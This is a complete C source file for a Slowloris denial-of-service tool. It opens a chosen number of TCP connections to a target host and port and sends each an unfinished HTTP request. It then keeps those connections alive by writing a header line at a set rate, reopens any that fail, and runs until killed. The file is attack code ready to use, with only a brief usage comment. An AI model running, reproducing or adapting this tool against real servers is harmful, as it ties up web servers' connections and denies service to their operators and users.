// Slowloris: slow HOST PORT CONNECTIONS A-SECOND holds so many connections that never end their request, and writes a line to each in turn,
// so many a second in all. It says "all" when each was tried once, and goes on until it is killed.
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static const char first[] = "GET / HTTP/1.1\r\n", more[] = "X: y\r\n";

int main(int argc, char **argv)
{
    if (argc != 5)
        return 2;
    struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(argv[2])), .sin_addr.s_addr = inet_addr(argv[1]) };
    struct rlimit most;
    getrlimit(RLIMIT_NOFILE, &most);
    most.rlim_cur = most.rlim_max;
    setrlimit(RLIMIT_NOFILE, &most);
    int n = atoi(argv[3]), *fd = malloc((size_t)n * sizeof *fd), failed = 0;
    long gap = 1000000000L / atoi(argv[4]);
    memset(fd, -1, (size_t)n * sizeof *fd);
    struct timespec next;
    clock_gettime(CLOCK_MONOTONIC, &next);
    for (long i = 0;; i++) {
        int *f = &fd[i % n];
        if (i == n)
            printf("all, %d failed\n", failed), fflush(stdout);
        if (*f >= 0 && send(*f, more, sizeof more - 1, MSG_DONTWAIT | MSG_NOSIGNAL) < 0 && errno != EAGAIN) {
            close(*f);
            *f = -1;
        } else if (*f < 0) {
            *f = socket(AF_INET, SOCK_STREAM, 0);
            if (connect(*f, (void *)&to, sizeof to) != 0 || send(*f, first, sizeof first - 1, MSG_NOSIGNAL) < 0) {
                close(*f);
                *f = -1, failed++;
            }
        }
        next.tv_nsec += gap;
        next.tv_sec += next.tv_nsec / 1000000000, next.tv_nsec %= 1000000000;
        clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &next, NULL);
    }
}
